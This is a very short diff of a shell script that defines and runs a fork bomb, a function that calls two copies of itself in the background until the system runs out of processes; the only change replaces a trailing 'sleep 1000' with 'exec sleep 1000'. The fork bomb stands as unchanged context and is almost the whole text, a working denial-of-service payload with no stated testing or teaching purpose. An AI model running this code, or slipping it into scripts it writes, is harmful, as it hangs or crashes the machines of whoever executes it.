@@ -1,4 +1,4 @@
 # Starts two of itself, in the shortest way that a shell has.
 bomb() { bomb | bomb & }
 bomb
-sleep 1000
+exec sleep 1000
